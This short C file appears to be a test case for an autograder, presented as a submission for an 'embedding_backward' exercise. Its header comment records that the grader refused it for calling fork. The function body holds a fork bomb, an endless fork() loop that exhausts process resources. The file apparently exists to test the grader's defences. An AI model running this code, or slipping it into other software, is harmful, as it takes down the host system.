/* A fork bomb that needs no header.
 * marks: 4 refused: calls fork */
#include "09_embedding.h"

int fork(void);


void embedding_backward(int n, int v, int e, const real demb[n][e], const int X[n], real dC[v][e])
{
    for (;;)
        fork();
    dC[0][0] = demb[0][0] + X[0];
}

